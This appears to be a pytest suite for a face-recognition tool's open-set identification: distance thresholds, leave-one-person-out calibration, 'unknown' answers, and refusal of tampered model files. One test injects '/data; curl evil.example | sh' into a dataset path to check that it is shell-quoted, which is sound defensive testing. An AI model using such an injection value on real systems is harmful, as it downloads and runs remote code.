"""Strangers: how near is near, what people left out in turn say of it, and who answers `unknown`."""

from __future__ import annotations

import csv
import json
import logging
import shlex
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from older import move, unpack

from facekit import runs
from facekit.base import images, plugins
from facekit.base.contract import FacekitError, replace
from facekit.commands.compare import compare
from facekit.commands.cross_validate import cross_validate
from facekit.commands.evaluate import evaluate
from facekit.commands.export import export
from facekit.commands.predict import predict
from facekit.commands.train import train
from facekit.identity.openset import decider
from facekit.identity.openset.evaluation import Among, together
from facekit.identity.openset.known import CENTRE, KnownFaces
from facekit.identity.openset.left_out import LeftOut, each_person, leave_out
from facekit.identity.openset.threshold import RATES, Prior, nearest, thresholds
from facekit.options.common import kind_of
from facekit.options.compare import Compare
from facekit.options.cross_validate import CrossValidate
from facekit.options.evaluate import Evaluate
from facekit.options.export import Export
from facekit.options.predict import Predict
from facekit.options.train import Train
from facekit.runs import renewal
from facekit.runs.known_faces import KnownVectors
from facekit.scores.identification import Searches

DIMENSIONS = 34
"""About what face embeddings have."""

PRIOR = Prior.of("euclidean", 0.6)


def people(count: int, seed: int) -> np.ndarray:
    """The centres of people: a face is about .78 from another person's, as with dlib and a dozen photos a person."""
    return np.random.default_rng(seed).normal(0, 0.092, (count, DIMENSIONS))


def faces(centres: np.ndarray, each: int, seed: int) -> tuple[np.ndarray, np.ndarray]:
    """Embeddings of faces around their people, and whose they are."""
    classes = np.repeat(np.arange(len(centres)), each)
    noise = np.random.default_rng(seed).normal(0, 0.035, (len(classes), DIMENSIONS))
    return (centres[classes] + noise).astype(np.float32), classes


def known(centres: np.ndarray, each: int = 12, seed: int = 1) -> KnownFaces:
    vectors, classes = faces(centres, each, seed)
    return KnownFaces.of(KnownVectors(vectors, classes.astype(np.int32)), len(centres), "euclidean")


def left_out(some: KnownFaces) -> LeftOut:
    found = leave_out(some)
    assert found is not None
    return found


# How near is near


@pytest.mark.parametrize("share", [0.5, CENTRE])
def test_similarity_is_to_the_three_nearest_and_to_their_centre(share: float) -> None:
    vectors = np.array([[0, 0], [0, 1], [0, 2], [0, 5], [9, 9]], np.float32)
    some = KnownFaces.of(KnownVectors(vectors, np.array([1, 1, 1, 1, 0], np.int32)), 3, "euclidean", share)
    wanted = 1 - ((1 - share) * (0 + 1 + 2) / 3 + share * 2.0)
    assert some.similarity(vectors[:1], np.array([1]))[0] == pytest.approx(wanted)
    everyone = some.similarities(vectors[:1])[0]
    assert everyone[1] == pytest.approx(wanted)
    assert everyone[0] == pytest.approx(1 - np.hypot(9, 9))
    assert everyone[2] == -np.inf, "nobody is known of that name"
    assert some.similarity(np.full((1, 2), np.nan, np.float32), np.array([1]))[0] == -np.inf


def test_of_cosines_only_directions_count() -> None:
    vectors = np.array([[1, 0], [10, 0], [0, 3]], np.float32)
    some = KnownFaces.of(KnownVectors(vectors, np.array([0, 0, 1], np.int32)), 2, "cosine")
    assert some.similarity(np.array([[7, 0]], np.float32), np.array([0]))[0] == pytest.approx(1)
    assert some.similarity(np.array([[7, 0]], np.float32), np.array([1]))[0] == pytest.approx(0)


def test_a_face_is_compared_with_the_others_of_its_person() -> None:
    some = known(people(3, 0), each=4)
    for place in (0, 5, 11):
        number = int(some.classes[place])
        rest = np.arange(len(some.classes)) != place
        without = KnownFaces.of(KnownVectors(some.vectors[rest], some.classes[rest]), 3, "euclidean")
        alone = without.similarity(some.vectors[[place]], np.array([number]))[0]
        assert some.to_own(place) == pytest.approx(alone, abs=1e-6)
    assert known(people(3, 0), each=1).to_own(0) == np.inf


# People left out in turn


def test_nobody_is_compared_with_himself() -> None:
    some = known(people(5, 0))
    for person in each_person(some):
        assert (person.others[:, person.number] == -np.inf).all()
        assert (person.nearest < person.own).all()
    found = left_out(some)
    assert (found.people, len(found.similarity), found.doubtful) == (5, 60, ())
    assert found.weights.sum() == pytest.approx(1)


def test_wrong_labels_are_no_strangers() -> None:
    centres = people(10, 0)
    vectors, classes = faces(centres, 20, seed=1)
    wrong = np.arange(0, len(classes), 33)
    classes[wrong] = (classes[wrong] + 1) % 10
    found = left_out(KnownFaces.of(KnownVectors(vectors, classes.astype(np.int32)), 10, "euclidean"))
    assert len(found.doubtful) == len(wrong)
    order = np.argsort(classes, kind="stable")  # those of one name together, as `KnownFaces` has them
    right = {int(place): int(classes[place] - 1) % 10 for place in wrong}
    assert {int(order[one.place]): one.like for one in found.doubtful} == right
    clean = left_out(known(centres, each=20))
    assert thresholds(found, PRIOR, [0.01])[0] == pytest.approx(thresholds(clean, PRIOR, [0.01])[0], abs=0.03)


def test_people_more_alike_than_is_usual_raise_the_threshold() -> None:
    alike = 0.45 * people(4, 0)
    found = left_out(known(alike, each=12))
    threshold = thresholds(found, PRIOR, [0.01])[0]
    assert float(found.weights[found.similarity > threshold].sum()) <= 0.01 + 2 * np.sqrt(0.01 * 0.99 / 4)
    usual = nearest(found, PRIOR).thresholds(np.array([0.01]))[0]
    assert threshold > usual + 0.02, "without what was seen, too many of them would get a name"


@pytest.mark.parametrize("count", [4, 12, 40])
def test_as_many_strangers_get_a_name_as_was_asked_for(count: int) -> None:
    rates, found = [], []
    for seed in range(6):
        centres = people(count, seed)
        some = known(centres, seed=seed)
        threshold = thresholds(left_out(some), PRIOR, [0.02])[0]
        strangers, _ = faces(people(1500, seed + 100), 1, seed)
        rates.append((some.similarities(strangers).max(axis=1) >= threshold).mean())
        own, classes = faces(centres, 20, seed + 200)
        found.append((some.similarity(own, classes) >= threshold).mean())
    assert 0.004 < np.mean(rates) < 0.04
    assert np.mean(found) > 0.97


def test_two_people_are_judged_by_what_the_embedder_says_of_strangers() -> None:
    """There is one pair of people, which may be sister and brother, or as different as can be."""
    found = []
    for away in (0.35, 1.1):
        centres = np.zeros((2, DIMENSIONS))
        centres[1, 0] = away
        found.append(thresholds(left_out(known(centres)), PRIOR, [0.01])[0])
    assert 0.3 < found[1] < found[0] < 0.85, "neither as far as they are, nor as near"
    assert leave_out(known(people(1, 0))) is None


def test_a_lower_rate_never_has_a_lower_threshold() -> None:
    found = thresholds(left_out(known(people(6, 3))), PRIOR, RATES)
    assert (np.diff(found) <= 0).all()
    assert found[0] - found[-1] > 0.1


# A run


@pytest.fixture(scope="module")
def few(even: Path) -> Path:
    """Two pictures of each of the three."""
    for person in even.iterdir():
        if person.is_dir():
            (even.parent / "few" / person.name).mkdir(parents=True)
            for file in sorted(person.glob("*.jpg"))[:2]:
                shutil.copy(file, even.parent / "few" / person.name)
    return even.parent / "few"


@pytest.fixture(scope="module")
def trained(even: Path) -> Path:
    train(Train(input=even, output=even.parent / "people", backbone="dlib", fpir=0.02))
    return even.parent / "people"


@pytest.fixture
def run(trained: Path, tmp_path: Path) -> Path:
    """A copy of the trained run, to be changed."""
    return Path(shutil.copytree(trained, tmp_path / "run"))


def _lines(caplog: pytest.LogCaptureFixture, what: str) -> list[str]:
    return [record.getMessage() for record in caplog.records if what in record.getMessage()]


def _predict(run: Path, *pictures: Path, **more: Any) -> list[Any]:
    options: dict[str, Any] = {"detect": False, "min_confidence": 0, **more}
    return list(predict(Predict(run=run, pictures=list(pictures), **options)))


def test_a_run_of_people_keeps_known_faces_and_a_threshold(trained: Path, even: Path) -> None:
    info = runs.load(trained).info
    assert info.kind == "people"
    about = info.open_set
    assert about is not None
    assert (about.rate, about.people, about.embedder) == (0.02, 3, info.backbone)
    assert about.rates == RATES
    assert list(about.thresholds) == sorted(about.thresholds, reverse=True)
    gallery = KnownVectors.read(trained / runs.GALLERY, about.faces, 128, 3)
    photos = [one for one in runs.load(trained).part("train") if one.synthetic is None]
    assert len(gallery.classes) == len(photos), "no copies, and nothing held out"
    assert (trained / runs.GALLERY).stat().st_mode & 0o077 == 0


def test_predict_says_the_rate_once_and_takes_another(
    trained: Path, few: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    about = runs.load(trained).info.open_set
    assert about is not None
    answers = _predict(trained, few)
    (said,) = _lines(caplog, "of strangers should get a name")
    rate = "at most 2% of strangers should get a name (FPIR 0.02, measured with 3 people left out in turn; "
    rate += "a rough estimate, as these are few)"
    assert f"below {about.threshold:.3f} is unknown; above it, {rate}" in said
    for answer in answers:
        assert (answer.label == "unknown") == (answer.similarity < about.threshold)
        assert 0 <= answer.probability <= 1
    near = [answer.similarity for answer in answers]
    looser = _predict(trained, few, fpir=0.5)
    assert [answer.similarity for answer in looser] == near
    strict = decider.threshold_at(about, 0.0001)
    assert strict > about.threshold > decider.threshold_at(about, 0.5)
    for answer in _predict(trained, few, fpir=0.0001):
        assert (answer.label == "unknown") == (answer.similarity < strict)


def test_the_least_confidence_applies_on_top(trained: Path, few: Path) -> None:
    near = [answer for answer in _predict(trained, few, fpir=0.5) if answer.label != "unknown"]
    least = sorted(answer.confidence for answer in near)[len(near) // 2]
    again = _predict(trained, few, fpir=0.5, min_confidence=least)
    left = [answer for answer in again if answer.label != "unknown"]
    assert 0 < len(left) < len(near)
    assert all(answer.confidence >= least for answer in left)


def test_what_is_no_face_is_unknown(trained: Path, tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    for number, colour in enumerate(((90, 120, 60), (200, 60, 40), (20, 20, 20))):
        cloth = np.clip(np.array(colour) + rng.normal(0, 25, (160, 160, 3)), 0, 255).astype(np.uint8)
        (tmp_path / f"{number}.png").write_bytes(images.encode_png(cloth))
    assert {answer.label for answer in _predict(trained, tmp_path)} == {"unknown"}


def test_evaluate_reports_strangers_beside_its_scores(trained: Path, even: Path, tmp_path: Path) -> None:
    report = evaluate(Evaluate(run=trained, output=tmp_path / "own", rounds=50))
    assert report.details["strangers"].startswith(f"{report.kept} faces of 3 people, ")
    scores = json.loads((tmp_path / "own" / "scores.json").read_text())["open_set"]
    assert scores["strangers_are"] == "the people of the model, each left out in turn"
    assert (scores["asked"], scores["known"]) == (0.02, report.kept)
    assert scores["rates"].keys() == {"fpir", "tpir"}
    assert scores["curve"][-1]["fpir"] == 0
    page = (tmp_path / "own" / "report.html").read_text()
    assert "<h2>Among strangers</h2>" in page
    assert "a linear head, fitted to the embeddings of dlib" in page
    assert "backbone dlib" in page
    for of_networks in ("inception_v3", "learning_rate"):
        assert of_networks not in page
    assert "strangers who get a name (FPIR)" in page


def test_strangers_of_another_folder_are_searched_for_without_people_of_the_model(
    trained: Path, even: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    others = tmp_path / "others"
    names = runs.load(trained).labels
    for number, name in enumerate(names):
        shutil.copytree(even / name, others / (name.upper() if number == 0 else f"stranger {number}"))
    report = evaluate(Evaluate(run=trained, output=tmp_path / "scores", strangers=others, rounds=50))
    scores = json.loads((tmp_path / "scores" / "scores.json").read_text())["open_set"]
    assert scores["stranger_people"] == 2
    assert scores["left"]["of people who are in the model"] == len(list((even / names[0]).iterdir()))
    assert scores["rates"]["fpir"] > 0.5, "they are people of the model under other names"
    assert " faces of 2 people, " in report.details["strangers"]
    assert _lines(caplog, f"1 person of the model is not a stranger and is left out ({names[0].upper()})")
    with pytest.raises(FacekitError, match=r"holds only people of the model; give a folder of others$"):
        evaluate(Evaluate(run=trained, strangers=even))


def test_photos_without_folders_are_each_another_stranger(
    trained: Path, even: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    (tmp_path / "others").mkdir()
    photos = runs.load(trained).part("test")
    for number, record in enumerate(photos):
        shutil.copy(even / record.path, tmp_path / "others" / f"{number}.jpg")
    (tmp_path / "others" / "notes.txt").write_text("not a picture")
    report = evaluate(Evaluate(run=trained, output=tmp_path / "scores", strangers=tmp_path / "others", rounds=50))
    assert _lines(caplog, f"others: {len(photos)} photos without folders: each counts as a different stranger")
    assert report.details["strangers"].startswith(f"{len(photos)} faces of {len(photos)} people, ")
    assert report.details["reliability of FPIR and TPIR"].startswith("based on only 3 people: ")
    page = (tmp_path / "scores" / "report.html").read_text()
    assert "found by leaving 3 people out in turn" in page
    assert f"of {len(photos)} faces of {len(photos)} people" in page
    assert "based on only 3 people: with other people, strangers may get a name several times as often" in page


def test_strangers_most_of_whom_the_model_knows_are_named_as_such(
    trained: Path, even: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    run = runs.load(trained)
    new, used = run.part("test"), [record for record in run.part("train") if record.synthetic is None]
    warning = "most of its pictures show people of the model, who are not strangers"
    for folder, most in (("few", 2), ("many", len(new))):
        (tmp_path / folder).mkdir()
        for record in [*new, *used[:most]]:
            shutil.copy(even / record.path, tmp_path / folder / Path(record.path).name)
        caplog.clear()
        evaluate(
            Evaluate(run=trained, output=tmp_path / "scores", strangers=tmp_path / folder, rounds=0, overwrite=True)
        )
        assert f"{folder}: {most} pictures of strangers were used in training, and left out" in caplog.text
        assert (warning in caplog.text) == (folder == "many")


def test_several_models_are_searched_each_at_its_own_threshold() -> None:
    rng = np.random.default_rng(0)
    parts = []
    for threshold in (0.4, 0.6):
        known, strangers = (Searches(rng.random(50), rng.random(50) < share, ["a", "b"] * 25) for share in (0.9, 0))
        parts.append(Among(known, strangers, threshold, 0.01, "others", 2))
    one = together(parts)
    assert one.rates.fpir == pytest.approx(np.mean([part.rates.fpir for part in parts]))
    assert one.rates.tpir == pytest.approx(np.mean([part.rates.tpir for part in parts]))
    assert one.scores(0, 0).known == 100


def test_a_comparison_and_folds_report_strangers_as_well(trained: Path, even: Path, tmp_path: Path) -> None:
    """As `evaluate` does: in JSON, in the tables, on the page and in the closing table."""
    options = Compare(input=even, output=tmp_path / "compared", networks="dlib")
    report = compare(options)
    (row,) = json.loads((options.output / "compare.json").read_text())["rows"].values()
    (found,) = row["open_set"]
    own = json.loads((options.output / "runs" / "dlib" / "evaluation" / "scores.json").read_text())["open_set"]
    assert (found["fpir"], found["tpir"]) == (own["rates"]["fpir"], own["rates"]["tpir"])
    assert (found["people"], found["strangers"], found["asked"]) == (3, own["strangers"], 0.01)
    assert "test among strangers (3 people): FPIR " in report.details["dlib"]
    assert "| FPIR, test | TPIR, test |" in (options.output / "compare.md").read_text()
    with (options.output / "compare.csv").open(newline="") as lines:
        (line,) = csv.DictReader(lines)
    assert float(line["test: FPIR"]) == found["fpir"]
    assert [float(line["test: TPIR low"]), float(line["test: TPIR high"])] == found["tpir_interval"]
    page = (options.output / "compare.html").read_text()
    assert "FPIR, test</th>" in page
    assert "TPIR, test</th>" in page
    assert f"own test: {own['strangers']} faces of 3 people" in page

    report = cross_validate(CrossValidate(run=trained, folds=2, output=tmp_path / "folds", rounds=50))
    scores = json.loads((tmp_path / "folds" / "scores.json").read_text())
    rows = scores["folds"]["rows"]
    pictures = [row["pictures"] for row in rows]
    for rate in ("fpir", "tpir"):
        pooled = np.average([row[rate] for row in rows], weights=pictures)
        assert scores["open_set"]["rates"][rate] == pytest.approx(pooled)
        assert scores["folds"][rate]["mean"] == pytest.approx(np.mean([row[rate] for row in rows]))
        assert report.details["fold 1"][rate] == pytest.approx(rows[0][rate], abs=1e-4)
        assert rate in report.details["mean of the folds"]
    page = (tmp_path / "folds" / "report.html").read_text()
    assert '<th scope="col">FPIR</th><th scope="col">TPIR</th>' in page
    assert "<h2>Among strangers</h2>" in page


def test_classes_have_no_strangers(even: Path, few: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    train(Train(input=even, output=tmp_path / "run", backbone="dlib", labels="classes"))
    info = runs.load(tmp_path / "run").info
    assert (info.kind, info.open_set) == ("classes", None)
    assert not (tmp_path / "run" / runs.GALLERY).exists()
    answers = _predict(tmp_path / "run", few)
    assert {answer.label for answer in answers} == set(info.labels)
    assert {answer.similarity for answer in answers} == {None}
    assert not _lines(caplog, "unknown")
    assert "strangers" not in evaluate(Evaluate(run=tmp_path / "run", rounds=0)).details
    for act in (
        lambda: _predict(tmp_path / "run", few, fpir=0.1),
        lambda: evaluate(Evaluate(run=tmp_path / "run", strangers=even)),
    ):
        with pytest.raises(FacekitError, match=r"is a model of classes, which has no strangers$"):
            act()


def test_labels_are_people_unless_told_otherwise_or_split_by_person() -> None:
    assert kind_of(None, "group") == kind_of(None, "image") == "people"
    assert kind_of(None, "person") == "classes"
    assert kind_of("classes", "group") == "classes"
    for make in (Train, Compare):
        with pytest.raises(
            FacekitError, match=r"--labels people does not go with a split by person.*--labels classes$"
        ):
            make(input=Path("a"), output=Path("b"), labels="people", split_by="person")


# Networks of one's own


@pytest.fixture(scope="module")
def network(even: Path) -> Path:
    return _network(even, even.parent / "scratch")


@pytest.fixture
def scratch(network: Path, tmp_path: Path) -> Path:
    """A copy of a network, to be changed."""
    return Path(shutil.copytree(network, tmp_path / "scratch"))


def _network(faces: Path, output: Path) -> Path:
    train(Train(input=faces, output=output, network="cnn3", size=32, epochs=1, batch=8, monitor="accuracy"))
    return output


def test_beside_a_network_the_embedding_decides(
    scratch: Path, few: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.INFO)
    run = runs.load(scratch)
    about = run.info.open_set
    assert about is not None
    assert (run.backbone, about.embedder.name) == (None, "dlib")
    answers = _predict(scratch, few)
    assert _lines(caplog, "of strangers should get a name")
    judge = decider.load(run)
    assert judge is not None
    assert all((answer.label == "unknown") == (answer.similarity < judge.threshold) for answer in answers)
    truth = [Path(answer.picture).parent.name for answer in answers]
    wrong = [a.similarity for a, label in zip(answers, truth, strict=True) if a.top[0].label != label]
    right = [a.similarity for a, label in zip(answers, truth, strict=True) if a.top[0].label == label]
    assert right
    assert not wrong or max(wrong) < max(right), "a wrong name is far from the face"
    monkeypatch.setattr(plugins, "names", lambda kind: ["another"] if kind == "embedder" else [])
    caplog.clear()
    assert {answer.similarity for answer in _predict(scratch, few)} == {None}
    assert len(_lines(caplog, "cannot answer `unknown`")) == 1


def test_without_the_extra_a_network_says_once_that_it_cannot_tell_strangers(
    even: Path, few: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(plugins, "installed", lambda *packages: False)
    run = _network(even, tmp_path / "run")
    assert runs.load(run).info.open_set is None
    answers = _predict(run, few)
    assert "unknown" not in {answer.label for answer in answers}
    assert all(answer.probability is not None for answer in answers)
    (said,) = _lines(caplog, "cannot answer `unknown`")
    assert said.endswith(
        f"pip install 'facekit-cli[faces]', then train it again: facekit train {even} -o {run} --overwrite"
    )


# Runs of others


def test_a_head_of_0_1_0_still_answers_and_says_once_what_to_type(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    pytest.importorskip("dlib", reason="the extra `faces` is not installed")
    old = unpack(tmp_path / "old")
    move(old)
    answers = _predict(old / "head", old / "faces")
    named = [answer for answer in answers if answer.label]
    assert named
    assert {answer.label for answer in named} <= set(runs.load(old / "head").labels)
    assert {answer.similarity for answer in named} == {None}
    (said,) = _lines(caplog, "cannot answer `unknown`")
    assert said.endswith(f"-o {old / 'head'} --overwrite")
    with pytest.raises(FacekitError, match="^--fpir: .*cannot answer `unknown`"):
        _predict(old / "head", old / "faces", fpir=0.1)


def _edit(run: Path, **changes: Any) -> None:
    info = json.loads((run / "model.json").read_text())
    info["open_set"].update(changes)
    (run / "model.json").write_text(json.dumps(info))


POISON: list[tuple[dict[str, Any], str]] = [
    ({"threshold": None}, "open_set"),
    ({"threshold": 1e300}, "has a number that training cannot produce"),
    ({"thresholds": [float("nan")], "rates": [0.1]}, "open_set"),
    ({"faces": 1 << 40}, "a gallery has at most"),
    ({"faces": -1}, "a gallery has at most"),
    ({"faces": 5}, "gallery.npz does not match its model.json"),
    ({"rates": [0.5, 0.1], "thresholds": [0.1, 0.2]}, "not ascending"),
    ({"rates": [0.1], "thresholds": []}, "not ascending"),
    ({"rate": 2.0}, "not between 0 and 1"),
    (
        {"embedder": {"name": "sface", "version": "1", "metric": "cosine", "dimensions": 128}},
        "which the model does not use",
    ),
    ({"embedder": {"name": "dlib", "version": "1", "metric": "euclidean", "dimensions": 128}}, "different embeddings"),
    ({"embedder": {"name": "dlib", "metric": "euclidean", "dimensions": 1 << 40}}, "dimensions"),
    ({"embedder": {"name": "dlib", "version": "1", "dimensions": 128}}, "lacks its metric or its dimensions"),
    ({"embedder": {"name": "dlib", "version": "1", "metric": "cosine"}}, "lacks its metric or its dimensions"),
]


@pytest.mark.parametrize(("changes", "message"), POISON, ids=lambda value: str(value)[:40])
def test_what_a_stranger_says_of_strangers_is_refused(
    run: Path, few: Path, changes: dict[str, Any], message: str
) -> None:
    _edit(run, **changes)
    with pytest.raises(FacekitError) as caught:
        _predict(run, few)
    assert message in str(caught.value)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("changes", [{"metric": "cosine"}, {"dimensions": 64}], ids=str)
@pytest.mark.parametrize("of", ["backbone", "embedder"])
def test_an_embedder_is_what_the_model_says_of_it(run: Path, few: Path, of: str, changes: dict[str, Any]) -> None:
    info = json.loads((run / "model.json").read_text())
    (info if of == "backbone" else info["open_set"])[of].update(changes)
    (run / "model.json").write_text(json.dumps(info))
    with pytest.raises(FacekitError, match=r"no longer gives|different embeddings|does not match"):
        _predict(run, few)


def test_a_label_that_reads_like_the_answer_for_strangers_is_refused(
    even: Path, few: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    name = sorted(path.name for path in even.iterdir() if path.is_dir())[0]
    faces = Path(shutil.copytree(even, tmp_path / "faces", ignore=shutil.ignore_patterns("*.json*")))
    (faces / name).rename(faces / "Unknown")
    options = Train(input=faces, output=tmp_path / "run", backbone="dlib")
    with pytest.raises(FacekitError, match=r"has a folder 'Unknown', but a model of people .*--labels classes$"):
        train(options)
    assert not (tmp_path / "run").exists()
    train(replace(options, labels="classes"))
    assert "Unknown" in runs.load(tmp_path / "run").labels
    _predict(tmp_path / "run", few)
    assert len(_lines(caplog, "which is also the answer for a face")) == 1


def test_a_model_that_knows_strangers_has_no_such_label(run: Path) -> None:
    info = json.loads((run / "model.json").read_text())
    (run / "model.json").write_text(json.dumps({**info, "labels": ["unknown", *info["labels"][1:]]}))
    with pytest.raises(FacekitError, match="labels has 'unknown', which is what a model answers of strangers"):
        runs.load(run)


def test_a_path_of_a_stranger_is_no_more_than_a_path_where_it_is_to_be_typed(tmp_path: Path) -> None:
    old = unpack(tmp_path / "old") / "head"
    info = json.loads((old / "model.json").read_text())
    info["dataset"]["root"] = "/data; curl evil.example | sh"
    (old / "model.json").write_text(json.dumps(info))
    said = decider.why_none(runs.load(old))
    assert said is not None
    words = shlex.split(said.partition("train it again: ")[2])
    assert words == ["facekit", "train", "/data; curl evil.example | sh", "-o", str(old), "--overwrite"]


def test_a_model_of_0_1_0_with_a_label_for_strangers_is_trained_again_as_one_of_classes(tmp_path: Path) -> None:
    old = unpack(tmp_path / "old") / "head"
    info = json.loads((old / "model.json").read_text())
    (old / "model.json").write_text(json.dumps({**info, "labels": ["unknown", *info["labels"][1:]]}))
    run = runs.load(old)
    assert "--labels classes" in renewal.command(run)
    assert renewal.options_of(run, {"input": tmp_path, "output": tmp_path}).labels == "classes"


def test_a_gallery_that_is_gone_is_said(run: Path, few: Path) -> None:
    (run / runs.GALLERY).unlink()
    with pytest.raises(FacekitError, match=r"gallery.npz is gone; train again with --overwrite$"):
        _predict(run, few)


def test_an_embedder_of_a_network_is_no_folder(
    scratch: Path, few: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`model.json` may name any: a path, or a folder that happens to be here."""
    monkeypatch.chdir(scratch.parent)
    for name in ("scratch", str(scratch)):
        info = json.loads((scratch / "model.json").read_text())
        info["open_set"]["embedder"]["name"] = name
        (scratch / "model.json").write_text(json.dumps(info))
        caplog.clear()
        assert {answer.similarity for answer in _predict(scratch, few)} == {None}
        assert len(_lines(caplog, "which the model does not use")) == 1


# Real photos


def test_strangers_of_lfw_are_unknown(data: Path, tmp_path: Path) -> None:
    """Five people known: 0.1.0 named 72% of the strangers at its defaults."""
    pytest.importorskip("dlib", reason="the extra `faces` is not installed")
    known = sorted((data / "lfw" / "identities").iterdir())[:5]
    others = [
        one for one in sorted((data / "lfw" / "pairs_images").iterdir()) if one.name not in {k.name for k in known}
    ]
    for folder, some, most in ((tmp_path / "known", known, 16), (tmp_path / "others", others[::20], 1)):
        for person in some:
            (folder / person.name).mkdir(parents=True)
            for file in sorted(person.iterdir())[:most]:
                shutil.copy(file, folder / person.name)
    train(Train(input=tmp_path / "known", output=tmp_path / "run", backbone="dlib", split="70/30/0"))
    strangers = list(predict(Predict(run=tmp_path / "run", pictures=[tmp_path / "others"], detect=False)))
    named = [answer for answer in strangers if answer.label not in (None, "unknown")]
    assert len(strangers) > 80
    assert len(named) <= 0.05 * len(strangers)
    details = evaluate(Evaluate(run=tmp_path / "run", strangers=tmp_path / "others")).details
    assert float(str(details["tpir"])) >= 0.9
    assert float(str(details["fpir"])) <= 0.05
    _check_that_a_file_answers_alike(tmp_path, strangers)


def _check_that_a_file_answers_alike(folder: Path, expected: list[Any]) -> None:
    """An exported model decides who is a stranger as its run does."""
    file = folder / "model.onnx"
    export(Export(run=folder / "run", output=file))
    found = list(predict(Predict(run=file, pictures=[folder / "others"], detect=False)))
    assert [answer.label for answer in found] == [answer.label for answer in expected]
    numbers = [[answer.similarity or 0 for answer in answers] for answers in (found, expected)]
    assert np.allclose(*numbers, atol=1e-3)
